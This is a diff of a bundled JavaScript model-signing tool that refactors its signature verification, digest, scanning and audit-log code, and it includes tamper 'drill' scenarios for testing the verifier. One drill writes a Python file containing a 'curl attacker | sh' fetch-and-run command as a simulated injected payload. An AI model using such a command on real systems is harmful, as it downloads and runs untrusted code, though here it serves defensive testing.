+      if (!problemPaths.has(name2)) failures.push({ code: "FILE_MISSING", path: name2, message: "signed file is missing" });
+      continue;
+    }
+    if (ser.method === "files") {
+      if (ranges.length !== 1) continue;
+      ranges[0].end = f2.size;
+    } else if (shardsEnd(ranges) !== f2.size) {
+      failures.push({ code: "FILE_CHANGED", path: name2, message: `file size ${f2.size} does not match the signed shards` });
+      continue;
+    }
+    for (const r of ranges) {
+      bytesHashed += r.end - r.start;
+      if (changed.has(name2)) continue;
+      const o = lookupRange(read.hashed, name2, r.start, r.end);
+      if (!o.ok) {
+        changed.add(name2);
+        failures.push({ code: o.code, path: name2, message: o.message });
+      } else if (o.digest !== r.resource.digest) {
+        changed.add(name2);
+        failures.push({ code: "FILE_CHANGED", path: name2, message: "file content does not match the signature" });
+      }
+    }
+  }
+  if (!input.ignoreUnsignedFiles) {
+    for (const f2 of listing.files) {
+      if (!byFile.has(f2.name)) failures.push({ code: "FILE_UNEXPECTED", path: f2.name, message: "file is not in the signature" });
+    }
+  }
+  return { failures, filesChecked: byFile.size, bytesHashed, bytesRead: read.bytesRead };
+}
+function sourceRequest(input, ignorePaths, byFile) {
+  const ser = input.serialization;
+  return {
+    alg: ser.hash_type,
+    allowSymlinks: ser.allow_symlinks,
+    ignorePaths,
+    signedPaths: new Set(byFile().keys()),
+    ...input.engine ? { engine: input.engine } : {},
+    ...input.inspector ? { inspector: input.inspector } : {},
+    ...input.onHashed ? { onHashed: input.onHashed } : {},
+    ranges: (name2, size) => {
+      const list2 = byFile().get(name2);
+      if (!list2) return [];
+      if (ser.method === "files") return list2.length === 1 ? [[0, size]] : [];
+      return shardsEnd(list2) === size ? list2.map((r) => [r.start, r.end]) : [];
+    }
+  };
+}
+var init_files = __esm({
+  "src/verify/files.ts"() {
+    "use strict";
+    init_errors();
+    init_paths();
+    init_ranges();
   }
 });
 
@@ -59025,19 +59252,6 @@ var init_names = __esm({
   }
 });
 
-// src/sign/signature-path.ts
-import path15 from "node:path";
-async function defaultSignaturePath(model) {
-  if ((await statModel(model)).isDirectory()) return path15.join(model, "model.sig");
-  return `${model}.sig`;
-}
-var init_signature_path = __esm({
-  "src/sign/signature-path.ts"() {
-    "use strict";
-    init_model_path();
-  }
-});
-
 // src/verify/types.ts
 var NEED_IDENTITY;
 var init_types3 = __esm({
@@ -59053,8 +59267,8 @@ __export(pipeline_exports, {
   checkTrust: () => checkTrust,
   verifyModel: () => verifyModel
 });
-import path16 from "node:path";
-function refuseKeylessWithoutIdentity(bundle, trust) {
+import path18 from "node:path";
+function requireIdentityPolicy(bundle, trust) {
   if (bundle.material.kind === "publicKey") return;
   const vm = bundle.json.verificationMaterial;
   if ((vm?.tlogEntries?.length ?? 0) === 0) return;
@@ -59080,12 +59294,30 @@ async function checkTrust(bundle, trust) {
   const first = errors[0];
   throw reject(first.code, `no trusted authority accepts the signature: ${errors.map((e) => e.message).join("; ")}`);
 }
-async function verifyModel(opts) {
-  if (opts.signature !== void 0 && !opts.listing) await statModel(opts.model);
-  const signature = opts.signature ?? await defaultSignaturePath(opts.model);
-  const result = {
+function checkNames(statement, result) {
+  const failures = checkResourceNames(statement.resources.map((r) => r.name));
+  for (const f2 of failures) result.failures.push(f2);
+  return failures.length === 0;
+}
+function checkRootDigest(statement, result) {
+  const computed = rootDigest(statement.resources);
+  if (statement.rootDigest === void 0) {
+    result.rootDigest = computed;
+    return true;
+  }
+  if (computed === statement.rootDigest) return true;
+  result.failures.push({ code: "ROOT_DIGEST_MISMATCH", message: "signed root digest does not match the signed resource list" });
+  return false;
+}
+function signedAsOneFile(model, statement) {
+  const base2 = path18.basename(model);
+  const fileOf = (n) => statement.serialization.method === "shards" ? parseShardName(n)?.path ?? n : n;
+  return statement.resources.length > 0 && statement.resources.every((r) => fileOf(r.name) === "." || fileOf(r.name) === base2);
+}
+function emptyResult(model, signature) {
+  return {
     verified: false,
-    model: opts.model,
+    model,
     signature,
     rootDigest: void 0,
     subjectName: void 0,
@@ -59095,12 +59327,27 @@ async function verifyModel(opts) {
     serialization: void 0,
     filesChecked: 0,
     bytesHashed: 0,
+    bytesRead: 0,
     failures: [],
-    extra: {}
+    reports: {}
   };
+}
+async function signaturePathFor(opts) {
+  if (opts.source) return opts.signature ?? opts.source.defaultSignaturePath();
+  if (opts.signature !== void 0) {
+    await statModel(opts.model);
+    return opts.signature;
+  }
+  return defaultSignaturePath(opts.model);
+}
+async function verifyModel(opts) {
+  const stages = opts.stages ?? [];
+  checkStageOrder(stages);
+  const signature = await signaturePathFor(opts);
+  const result = emptyResult(opts.model, signature);
   try {
     const bundle = parseBundle(await readBundleFile(signature, void 0, { noFollow: opts.signature === void 0 }));
-    refuseKeylessWithoutIdentity(bundle, opts.trust);
+    requireIdentityPolicy(bundle, opts.trust);
     const signer = await checkTrust(bundle, opts.trust);
     result.signerInfo = signer;
     result.signer = signer.description;
@@ -59109,66 +59356,54 @@ async function verifyModel(opts) {
     result.metadata = statement.metadata;
     result.serialization = statement.serialization;
     result.rootDigest = statement.rootDigest;
-    const nameFailures = checkResourceNames(statement.resources.map((r) => r.name));
-    if (nameFailures.length > 0) {
-      for (const f2 of nameFailures) result.failures.push(f2);
-      return result;
-    }
-    if (statement.rootDigest !== void 0) {
-      const computed = rootDigest(statement.resources);
-      if (computed !== statement.rootDigest) {
-        result.failures.push({ code: "ROOT_DIGEST_MISMATCH", message: "signed root digest does not match the signed resource list" });
-        return result;
-      }
-    } else {
-      result.rootDigest = rootDigest(statement.resources);
-    }
+    if (!checkNames(statement, result) || !checkRootDigest(statement, result)) return finish(result);
+    const runs = stages.map((s3) => s3.start());
+    const inspector = stageInspector(runs);
+    const source = opts.source ?? await openSource(opts.model, { archiveAsFile: signedAsOneFile(opts.model, statement) });
     const files = await checkFiles({
       model: opts.model,
+      source,
       signaturePath: signature,
       serialization: statement.serialization,
       resources: statement.resources,
       ignorePaths: opts.ignorePaths ?? [],
       ignoreUnsignedFiles: opts.ignoreUnsignedFiles ?? false,
       ...opts.engine ? { engine: opts.engine } : {},
-      ...opts.listing ? { listing: opts.listing } : {},
-      ...await modelSource(opts, statement.resources, statement.serialization.method)
+      ...inspector ? { inspector } : {},
+      ...opts.onHashed ? { onHashed: opts.onHashed } : {}
     });
     for (const f2 of files.failures) result.failures.push(f2);
     result.filesChecked = files.filesChecked;
     result.bytesHashed = files.bytesHashed;
+    result.bytesRead = files.bytesRead;
     if (result.failures.length === 0) {
-      const ctx = { options: opts, bundle, statement, signer, result };
-      for (const stage of opts.stages ?? []) for (const f2 of await stage(ctx)) result.failures.push(f2);
+      const ctx = { bundle, statement, signer, trust: opts.trust, result };
+      for (const run2 of runs) for (const f2 of await run2.check(ctx)) result.failures.push(f2);
     }
   } catch (e) {
     if (e instanceof ModelsignError && e.kind === "reject") result.failures.push(toFailure(e));
     else throw e;
   }
+  return finish(result);
+}
+function finish(result) {
   result.verified = result.failures.length === 0;
   return result;
-}
-async function modelSource(opts, resources, method) {
-  if (opts.listing) return {};
-  const base2 = path16.basename(opts.model);
-  const fileOf = (n) => method === "shards" ? parseShardName(n)?.path ?? n : n;
-  if (!opts.source && resources.length > 0 && resources.every((r) => fileOf(r.name) === "." || fileOf(r.name) === base2)) return {};
-  const { archiveSourceFor: archiveSourceFor2 } = await Promise.resolve().then(() => (init_archive(), archive_exports));
-  const source = opts.source ?? await archiveSourceFor2(opts.model);
-  return source ? { source } : {};
 }
 var init_pipeline = __esm({
   "src/verify/pipeline.ts"() {
     "use strict";
     init_errors();
+    init_model_path();
     init_serialize();
     init_bundle();
     init_dsse();
     init_statement();
+    init_signature_path();
+    init_source3();
     init_files();
     init_names();
-    init_model_path();
-    init_signature_path();
+    init_stage();
     init_types3();
   }
 });
@@ -59430,7 +59665,7 @@ async function walkLineage(opts) {
     }
     node.verified = node.failure === null;
     node.datasets = vb.lineage?.datasets ?? [];
-    const path25 = new Set(onPath).add(link.rootDigest);
+    const path26 = new Set(onPath).add(link.rootDigest);
     const nextBelow = new Map(below);
     const prev = nextBelow.get(vb.name);
     if (prev === void 0 || prev !== null && import_semver6.default.lt(vb.version, prev)) nextBelow.set(vb.name, vb.version);
@@ -59442,7 +59677,7 @@ async function walkLineage(opts) {
         }
         break;
       }
-      node.parents.push(await visit(p2, node, depth + 1, path25, nextBelow));
+      node.parents.push(await visit(p2, node, depth + 1, path26, nextBelow));
     }
     return node;
   };
@@ -59453,7 +59688,7 @@ async function walkLineage(opts) {
   return { tree, ancestors: flatten(tree), failures };
 }
 var import_semver6, DEFAULT_MAX_DEPTH2, MAX_LINKS;
-var init_walk = __esm({
+var init_walk2 = __esm({
   "src/lineage/walk.ts"() {
     "use strict";
     import_semver6 = __toESM(require_semver2(), 1);
@@ -59525,7 +59760,7 @@ __export(state_exports, {
   recordVerified: () => recordVerified,
   serializeState: () => serializeState
 });
-import { open as open5, rename as rename2, stat as stat8, unlink as unlink4 } from "node:fs/promises";
+import { open as open6, rename as rename2, stat as stat8, unlink as unlink4 } from "node:fs/promises";
 function bad4(file, msg) {
   throw reject("STATE_CORRUPT", `state file ${file} is corrupt (${msg}); refusing to guess the highest version`);
 }
@@ -59572,7 +59807,7 @@ async function acquireLock(lock, timeoutMs, staleMs) {
   const deadline = Date.now() + timeoutMs;
   for (; ; ) {
     try {
-      const fh = await open5(lock, "wx", 420);
+      const fh = await open6(lock, "wx", 420);
       await fh.writeFile(`${process.pid}
 `);
       await fh.close();
@@ -59663,7 +59898,7 @@ var init_tree = __esm({
 
 // src/lineage/stage.ts
 function lineageStage(o) {
-  return async (ctx) => {
+  return checkStage("lineage", async (ctx) => {
     const failures = [];
     const meta = ctx.result.metadata;
     const name2 = meta?.name ?? ctx.statement.subjectName;
@@ -59700,12 +59935,12 @@ function lineageStage(o) {
       const w2 = await walkLineage({
         root: { name: name2, version, license: meta?.license, rootDigest: rootDigest2, signer: ctx.result.signer, lineage },
         store: o.store,
-        trust: ctx.options.trust,
+        trust: ctx.trust,
         ...o.maxDepth !== void 0 ? { maxDepth: o.maxDepth } : {}
       });
       for (const f2 of w2.failures) failures.push(f2);
       ancestors = w2.ancestors;
-      ctx.result.extra.lineage = { ancestors: w2.ancestors, ...lineage?.datasets ? { datasets: lineage.datasets } : {} };
+      ctx.result.reports.lineage = { ancestors: w2.ancestors, ...lineage?.datasets ? { datasets: lineage.datasets } : {} };
     }
     if (o.revoked) {
       const reason = (d) => {
@@ -59724,18 +59959,19 @@ function lineageStage(o) {
       }
     }
     return failures;
-  };
+  }, { produces: "lineage" });
 }
 var import_semver8;
-var init_stage3 = __esm({
+var init_stage4 = __esm({
   "src/lineage/stage.ts"() {
     "use strict";
     import_semver8 = __toESM(require_semver2(), 1);
     init_errors();
+    init_stage();
     init_metadata();
     init_revoked();
     init_state();
-    init_walk();
+    init_walk2();
     init_one_line();
   }
 });
@@ -59775,11 +60011,11 @@ var init_lineage = __esm({
     init_store();
     init_ancestor();
     init_parents();
-    init_walk();
+    init_walk2();
     init_revoked();
     init_state();
     init_tree();
-    init_stage3();
+    init_stage4();
   }
 });
 
@@ -59835,8 +60071,8 @@ var append_exports = {};
 __export(append_exports, {
   appendAudit: () => appendAudit
 });
-import { constants as constants5 } from "node:fs";
-import { open as open6, stat as stat9, unlink as unlink5, writeFile as writeFile2 } from "node:fs/promises";
+import { constants as constants6 } from "node:fs";
+import { open as open7, stat as stat9, unlink as unlink5, writeFile as writeFile2 } from "node:fs/promises";
 async function withLock(file, fn) {
   const lock = `${file}.lock`;
   const deadline = Date.now() + LOCK_WAIT_MS;
@@ -59865,7 +60101,7 @@ async function withLock(file, fn) {
 async function readTail(file) {
   let fh;
   try {
-    fh = await open6(file, constants5.O_RDONLY | (constants5.O_NONBLOCK ?? 0));
+    fh = await open7(file, constants6.O_RDONLY | (constants6.O_NONBLOCK ?? 0));
   } catch (e) {
     if (errnoCode(e) === "ENOENT") return { last: void 0, endsWithNewline: true, lastSeq: 0 };
     throw usage("AUDIT_WRITE_FAILED", `cannot read audit log ${file}: ${errnoCode(e) ?? String(e)}`);
@@ -59904,7 +60140,7 @@ async function appendAudit(file, decision) {
 `, "utf8");
     let fh;
     try {
-      fh = await open6(file, constants5.O_WRONLY | constants5.O_APPEND | constants5.O_CREAT, 384);
+      fh = await open7(file, constants6.O_WRONLY | constants6.O_APPEND | constants6.O_CREAT, 384);
     } catch (e) {
       throw usage("AUDIT_WRITE_FAILED", `cannot open audit log ${file}: ${writeFailureWords(e, file)}`);
     }
@@ -60039,65 +60275,82 @@ var init_budget = __esm({
 });
 
 // src/sign/digest.ts
+function listingRefusal(listing, model) {
+  const p2 = listing.problems[0];
+  const more = listing.problems.length > 1 ? ` (and ${listing.problems.length - 1} more)` : "";
+  return usage(p2.code, `${p2.path !== void 0 ? displayPath(p2.path) : model}: ${p2.message}${more}`, p2.path);
+}
+function nameRefusal(listing) {
+  if (listing.isFile) return void 0;
+  const nameProblems = checkResourceNames(listing.files.map((f2) => f2.name));
+  if (nameProblems.length === 0) return void 0;
+  const p2 = nameProblems[0];
+  const more = nameProblems.length > 1 ? ` (and ${nameProblems.length - 1} more)` : "";
+  return usage(p2.code, `${JSON.stringify(p2.path)}: ${p2.message.replace(" in signature", "")}${more}`, p2.path);
+}
 async function digestModel(opts) {
   const hash = opts.hash ?? "sha256";
-  const budget = opts.budget ?? new SizeBudget(hash, opts.shardSize);
-  const sigPath = opts.signature ?? await defaultSignaturePath(opts.model);
-  const ignorePaths = effectiveIgnores(opts.model, sigPath, void 0, opts.ignorePaths ?? []);
   if (opts.shardSize !== void 0 && (!Number.isSafeInteger(opts.shardSize) || opts.shardSize <= 0)) {
     throw usage("BAD_SHARD_SIZE", "--shard-size must be a positive whole number of bytes");
   }
+  const budget = opts.budget ?? new SizeBudget(hash, opts.shardSize);
+  const source = opts.source ?? await openSource(opts.model);
+  const sigPath = opts.signature ?? source.defaultSignaturePath();
+  const ignorePaths = effectiveIgnores(opts.model, sigPath, source.defaultIgnores, opts.ignorePaths ?? []);
   const method = opts.shardSize ? "shards" : "files";
-  const source = opts.listing ? void 0 : opts.source ?? await archiveSourceFor(opts.model);
-  if (source && !ignorePaths.includes(EMBEDDED_SIGNATURE)) ignorePaths.push(EMBEDDED_SIGNATURE);
   const counted = /* @__PURE__ */ new Set();
-  const rangesOf = (name2, size) => {
-    if (!counted.has(name2)) {
-      counted.add(name2);
-      budget.add(name2, size);
-      budget.check();
-    }
-    return plannedRanges(method, opts.shardSize, size);
+  const count = (name2, size) => {
+    if (counted.has(name2)) return;
+    counted.add(name2);
+    budget.add(name2, size);
   };
-  const pre = source ? await source({ alg: hash, ranges: rangesOf, onRestart: () => (counted.clear(), budget.reset()), allowSymlinks: opts.allowSymlinks ?? false, ignorePaths, ...opts.engine?.onProgress ? { onProgress: opts.engine.onProgress } : {} }) : void 0;
-  const listing = opts.listing ?? pre?.listing ?? await enumerateModel(opts.model, { ignorePaths, allowSymlinks: opts.allowSymlinks ?? false });
-  if (listing.problems.length > 0) {
-    const p2 = listing.problems[0];
-    const more = listing.problems.length > 1 ? ` (and ${listing.problems.length - 1} more)` : "";
-    throw usage(p2.code, `${p2.path !== void 0 ? displayPath(p2.path) : opts.model}: ${p2.message}${more}`, p2.path);
+  const read = await source.read({
+    alg: hash,
+    allowSymlinks: opts.allowSymlinks ?? false,
+    ignorePaths,
+    ...opts.engine ? { engine: opts.engine } : {},
+    onListed: (listing2) => {
+      if (listing2.problems.length > 0) throw listingRefusal(listing2, opts.model);
+      const bad6 = nameRefusal(listing2);
+      if (bad6) throw bad6;
+      for (const f2 of listing2.files) count(f2.name, f2.size);
+      budget.check();
+    },
+    ranges: (name2, size) => {
+      if (!counted.has(name2)) {
+        count(name2, size);
+        budget.check();
+      }
+      return plannedRanges(method, opts.shardSize, size);
+    },
+    onRestart: () => (counted.clear(), budget.reset())
+  });
+  const listing = read.listing;
+  if (listing.problems.length > 0) throw listingRefusal(listing, opts.model);
+  const bad5 = nameRefusal(listing);
+  if (bad5) throw bad5;
+  const resources = [];
+  for (const f2 of listing.files) {
+    for (const [start, end] of plannedRanges(method, opts.shardSize, f2.size)) {
+      const o = lookupRange(read.hashed, f2.name, start, end);
+      if (!o.ok) throw reject(o.code, `${f2.name}: ${o.message}`, f2.name);
+      resources.push({ name: method === "shards" ? `${f2.name}:${start}:${end}` : f2.name, algorithm: hash, digest: o.digest });
+    }
   }
-  const nameProblems = listing.isFile ? [] : checkResourceNames(listing.files.map((f2) => f2.name));
-  if (nameProblems.length > 0) {
-    const p2 = nameProblems[0];
-    const more = nameProblems.length > 1 ? ` (and ${nameProblems.length - 1} more)` : "";
-    throw usage(p2.code, `${JSON.stringify(p2.path)}: ${p2.message.replace(" in signature", "")}${more}`, p2.path);
-  }
-  if (!pre) {
-    for (const f2 of listing.files) budget.add(f2.name, f2.size);
-    budget.check();
-  }
-  const plans = planResources(listing.files, method, opts.shardSize);
-  const resources = pre ? plans.map((p2) => {
-    const o = lookupRange(pre.hashed, p2.file.name, p2.start, p2.end);
-    if (!o.ok) throw usage(o.code, `${p2.file.name}: ${o.message}`, p2.file.name);
-    return { name: p2.name, algorithm: hash, digest: o.digest };
-  }) : await hashResources(plans, hash, opts.engine);
   const serialization = { method, hash_type: hash, allow_symlinks: opts.allowSymlinks ?? false };
   if (method === "shards") serialization.shard_size = opts.shardSize;
   serialization.ignore_paths = ignorePaths;
-  return { listing, serialization, resources, rootDigest: rootDigest(resources) };
+  return { source, listing, serialization, resources, rootDigest: rootDigest(resources) };
 }
 var init_digest = __esm({
   "src/sign/digest.ts"() {
     "use strict";
     init_errors();
-    init_enumerate();
     init_paths();
     init_serialize();
-    init_archive();
-    init_source();
+    init_source3();
+    init_ranges();
     init_names();
-    init_signature_path();
     init_budget();
     init_one_line();
   }
@@ -60113,7 +60366,6 @@ __export(sign_exports, {
   signModel: () => signModel,
   signWithKey: () => signWithKey
 });
-import path18 from "node:path";
 import { createPublicKey as createPublicKey2 } from "node:crypto";
 function keySigner(key, publicKey) {
   return async (payload) => {
@@ -60127,9 +60379,8 @@ async function signWithKey(opts) {
   const key = typeof opts.key === "string" ? await loadPrivateKey2(opts.key) : opts.key;
   return signModel({ ...opts, signer: keySigner(key, createPublicKey2(key)) });
 }
-function defaultModelName(model) {
-  const base2 = path18.basename(path18.resolve(model));
-  return base2.replace(/\.(tar\.gz|tgz|tar)$/i, "") || "model";
+async function defaultModelName(model) {
+  return (await openSource(model)).defaultName();
 }
 async function checkVersion(version) {
   if (version.length <= 256 && PLAIN_SEMVER.test(version) && version.split(/[.-]/, 3).every((n) => Number(n) <= Number.MAX_SAFE_INTEGER)) return version;
@@ -60139,12 +60390,13 @@ async function checkVersion(version) {
 }
 async function signModel(opts) {
   const version = await checkVersion(opts.version);
-  const signaturePath = opts.signature ?? await defaultSignaturePath(opts.model);
+  const source = opts.source ?? await openSource(opts.model);
+  const signaturePath = opts.signature ?? source.defaultSignaturePath();
   const write = opts.write !== false;
   if (write) await checkWritable(signaturePath, "file");
   const budget = new SizeBudget(opts.hash ?? "sha256", opts.shardSize);
-  const d = await digestModel({ ...opts, signature: signaturePath, budget });
-  const name2 = opts.name ?? defaultModelName(opts.model);
+  const d = await digestModel({ ...opts, source, signature: signaturePath, budget });
+  const name2 = opts.name ?? source.defaultName();
   const metadata = {
     name: name2,
     version,
@@ -60182,7 +60434,7 @@ var init_sign = __esm({
     init_bundle();
     init_dsse();
     init_statement();
-    init_signature_path();
+    init_source3();
     init_digest();
     init_version();
     init_digest();
@@ -60193,7 +60445,7 @@ var init_sign = __esm({
 
 // src/scan/scan-path.ts
 import { lstat as lstat5 } from "node:fs/promises";
-import path19 from "node:path";
+import path20 from "node:path";
 function summarise(target, files, extra, failOn = "low", refused = 0) {
   const findings = [...extra, ...files.flatMap((f2) => f2.findings)].sort((a, b2) => severityRank(b2.severity) - severityRank(a.severity));
   const clean5 = !findings.some((f2) => severityRank(f2.severity) >= severityRank(failOn));
@@ -60201,6 +60453,7 @@ function summarise(target, files, extra, failOn = "low", refused = 0) {
   return { path: target, clean: clean5, filesScanned: files.length - unknown, filesUnknownFormat: unknown, filesRefused: refused, files, findings };
 }
 function notScanned(p2) {
+  if (p2.path === void 0) return `not scanned: ${p2.message}`;
   switch (p2.code) {
     case "SYMLINK_REFUSED":
       return "not scanned: a symlink (scan never follows links; scan the file it points to)";
@@ -60218,46 +60471,40 @@ async function scanPath(target, opts = {}) {
   } catch (e) {
     throw usage("SCAN_NOT_FOUND", errnoCode(e) === "ENOENT" ? `no such file or directory: ${target}` : `cannot read ${target}: ${errnoCode(e) ?? String(e)}`);
   }
-  if (st2.isFile() && isArchivePath(target)) {
-    const r = await scanTar(target, limits);
-    return summarise(target, r.reports, r.findings, opts.failOn, r.refused);
+  if (!st2.isFile() && !st2.isDirectory() && !st2.isSymbolicLink()) throw usage("SPECIAL_FILE", `not a file, directory or archive: ${target}`);
+  const source = await openSource(target);
+  const inspector = new ScanInspector(limits);
+  const { listing } = await source.read({ ranges: () => [], allowSymlinks: false, ignorePaths: [], inspector });
+  const shown = source.kind === "archive" ? (name2) => `${path20.basename(target)}:${name2}` : (name2) => name2;
+  for (const r of inspector.reports) {
+    r.file = shown(r.file);
+    for (const f2 of r.findings) f2.file = shown(f2.file);
   }
-  if (st2.isFile()) return summarise(target, [await scanFile(target, path19.basename(target), limits)], [], opts.failOn);
-  if (!st2.isDirectory() && !st2.isSymbolicLink()) throw usage("SPECIAL_FILE", `not a file, directory or archive: ${target}`);
-  const listing = await enumerateModel(target, { ignorePaths: [], allowSymlinks: false, maxFiles: limits.maxFiles });
-  if (listing.isFile) {
-    const f2 = listing.files[0];
-    return summarise(target, [await scanFile(f2.abs, f2.name, limits)], [], opts.failOn);
-  }
-  const extra = listing.problems.map((p2) => ({ code: "SCAN_SKIPPED", severity: UNSCANNED_HIGH.has(p2.code) ? "high" : "medium", file: p2.path ?? ".", message: notScanned(p2) }));
-  const files = [];
-  for (const f2 of listing.files) {
-    try {
-      files.push(await scanFile(f2.abs, f2.name, limits));
-    } catch (e) {
-      const code = errnoCode(e);
-      if (code === void 0) throw e;
-      extra.push({ code: "SCAN_SKIPPED", severity: "medium", file: f2.name, message: `not scanned: cannot read it (${code})` });
-    }
-  }
-  return summarise(target, files, extra, opts.failOn, extra.length);
+  for (const f2 of inspector.findings) f2.file = shown(f2.file);
+  const extra = listing.problems.map((p2) => ({
+    code: "SCAN_SKIPPED",
+    severity: UNSCANNED_HIGH.has(p2.code) || p2.path === void 0 ? "high" : "medium",
+    file: p2.path !== void 0 ? shown(p2.path) : path20.basename(target),
+    message: notScanned(p2)
+  }));
+  for (const f2 of inspector.findings) extra.push(f2);
+  return summarise(target, inspector.reports, extra, opts.failOn, listing.problems.length + inspector.refused);
 }
 var UNSCANNED_HIGH;
 var init_scan_path = __esm({
   "src/scan/scan-path.ts"() {
     "use strict";
     init_errors();
-    init_enumerate();
-    init_scan_file();
-    init_tar();
+    init_source3();
+    init_inspector();
     init_types();
     UNSCANNED_HIGH = /* @__PURE__ */ new Set(["UNSAFE_NAME", "UNREADABLE", "PATH_TOO_LONG"]);
   }
 });
 
 // src/audit/check.ts
-import { constants as constants6 } from "node:fs";
-import { open as open7 } from "node:fs/promises";
+import { constants as constants7 } from "node:fs";
+import { open as open8 } from "node:fs/promises";
 function lineProblem(line, lineNo, expectPrev) {
   let text;
   try {
@@ -60291,7 +60538,7 @@ async function checkAuditLog(file, opts = {}) {
   }
   let fh;
   try {
-    fh = await open7(file, constants6.O_RDONLY | (constants6.O_NONBLOCK ?? 0));
+    fh = await open8(file, constants7.O_RDONLY | (constants7.O_NONBLOCK ?? 0));
   } catch (e) {
     const c = errnoCode(e);
     throw usage("AUDIT_UNREADABLE", c === "ENOENT" ? `audit log not found: ${file}` : `cannot read audit log ${file}: ${c ?? String(e)}`);
@@ -60442,7 +60689,7 @@ var init_hostile = __esm({
 
 // src/drill/model.ts
 import { mkdir as mkdir3, writeFile as writeFile3 } from "node:fs/promises";
-import path20 from "node:path";
+import path21 from "node:path";
 function filler(n, seed) {
   const b2 = Buffer.alloc(n);
   let x = seed >>> 0 || 1;
@@ -60461,12 +60708,12 @@ function safetensorsShard(tensor, data) {
   return Buffer.concat([len, header, data]);
 }
 async function writeModel(dir, seed = 1) {
-  await mkdir3(path20.join(dir, "tokenizer"), { recursive: true });
-  await writeFile3(path20.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
-  await writeFile3(path20.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
-  await writeFile3(path20.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
-  await writeFile3(path20.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
-  await writeFile3(path20.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
+  await mkdir3(path21.join(dir, "tokenizer"), { recursive: true });
+  await writeFile3(path21.join(dir, SHARD_1), safetensorsShard("a.weight", filler(64 * 1024, seed)));
+  await writeFile3(path21.join(dir, SHARD_2), safetensorsShard("b.weight", filler(64 * 1024, seed + 1)));
+  await writeFile3(path21.join(dir, "model.safetensors.index.json"), JSON.stringify({ weight_map: { "a.weight": SHARD_1, "b.weight": SHARD_2 } }));
+  await writeFile3(path21.join(dir, "config.json"), JSON.stringify({ architectures: ["LlamaForCausalLM"], hidden_size: 64, seed }));
+  await writeFile3(path21.join(dir, "tokenizer", "tokenizer.json"), JSON.stringify({ version: "1.0", model: { vocab: { a: 0, b: 1 } } }));
   return dir;
 }
 async function signDrillModel(dir, key, o = {}) {
@@ -60507,15 +60754,15 @@ import { execFileSync } from "node:child_process";
 import { createHash as createHash6, generateKeyPairSync as generateKeyPairSync2 } from "node:crypto";
 import { appendFile, copyFile, mkdir as mkdir4, readFile, rename as rename3, rm as rm2, symlink, writeFile as writeFile4 } from "node:fs/promises";
 import { rmSync } from "node:fs";
-import path21 from "node:path";
+import path22 from "node:path";
 async function readSigned(model) {
-  const bundle = JSON.parse(await readFile(path21.join(model, "model.sig"), "utf8"));
+  const bundle = JSON.parse(await readFile(path22.join(model, "model.sig"), "utf8"));
   const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, "base64").toString("utf8"));
   return { bundle, statement };
 }
 async function writeSignedPayload(model, payload, key) {
   const bundle = await keySigner(key.priv, key.pub)(Buffer.from(payload, "utf8"));
-  await writeFile4(path21.join(model, "model.sig"), serializeBundle(bundle));
+  await writeFile4(path22.join(model, "model.sig"), serializeBundle(bundle));
 }
 async function signedWithExtraResource(ctx, dirName, extra) {
   const m2 = await ctx.copyBase(dirName);
@@ -60528,7 +60775,7 @@ async function signedWithExtraResource(ctx, dirName, extra) {
 }
 function canMakeFifo(dir) {
   if (process.platform === "win32") return false;
-  const probe = path21.join(dir, ".fifo-probe");
+  const probe = path22.join(dir, ".fifo-probe");
   try {
     execFileSync("mkfifo", [probe], { stdio: "ignore" });
     rmSync(probe, { force: true });
@@ -60538,7 +60785,7 @@ function canMakeFifo(dir) {
   }
 }
 async function emptyStore(ctx, name2) {
-  const dir = path21.join(ctx.tmp, name2);
+  const dir = path22.join(ctx.tmp, name2);
   await mkdir4(dir, { recursive: true });
   return dir;
 }
@@ -60562,7 +60809,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("changed-byte");
-          const f2 = path21.join(m2, SHARD_1);
+          const f2 = path22.join(m2, SHARD_1);
           const b2 = await readFile(f2);
           const i = b2.length >> 1;
           b2[i] = b2[i] ^ 1;
@@ -60576,7 +60823,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("injected-file");
-          await writeFile4(path21.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
+          await writeFile4(path22.join(m2, "modeling_llama.py"), 'import os\nos.system("curl attacker | sh")\n');
           return { model: m2 };
         }
       },
@@ -60586,7 +60833,7 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("removed-shard");
-          await rm2(path21.join(m2, SHARD_2));
+          await rm2(path22.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -60596,9 +60843,9 @@ var init_attacks = __esm({
         needs: ["trusted-signature"],
         async build(ctx) {
           const m2 = await ctx.copyBase("renamed-file");
-          await rename3(path21.join(m2, SHARD_1), path21.join(m2, "tmp"));
-          await rename3(path21.join(m2, SHARD_2), path21.join(m2, SHARD_1));
-          await rename3(path21.join(m2, "tmp"), path21.join(m2, SHARD_2));
+          await rename3(path22.join(m2, SHARD_1), path22.join(m2, "tmp"));
+          await rename3(path22.join(m2, SHARD_2), path22.join(m2, SHARD_1));
+          await rename3(path22.join(m2, "tmp"), path22.join(m2, SHARD_2));
           return { model: m2 };
         }
       },
@@ -60607,10 +60854,10 @@ var init_attacks = __esm({
         title: "another model's valid signature (same signer) put beside this model",
         needs: ["trusted-signature"],
         async build(ctx) {
-          const other = await writeModel(path21.join(ctx.tmp, "other-model"), 99);
+          const other = await writeModel(path22.join(ctx.tmp, "other-model"), 99);
           await signDrillModel(other, ctx.signer, { license: ctx.licenses.allowed });
           const m2 = await ctx.copyBase("swapped-signature");
-          await copyFile(path21.join(other, "model.sig"), path21.join(m2, "model.sig"));
+          await copyFile(path22.join(other, "model.sig"), path22.join(m2, "model.sig"));
           return { model: m2 };
         }
       },
@@ -60619,7 +60866,7 @@ var init_attacks = __esm({
         title: "the model re-signed by a key the set-up does not trust",
         needs: [],
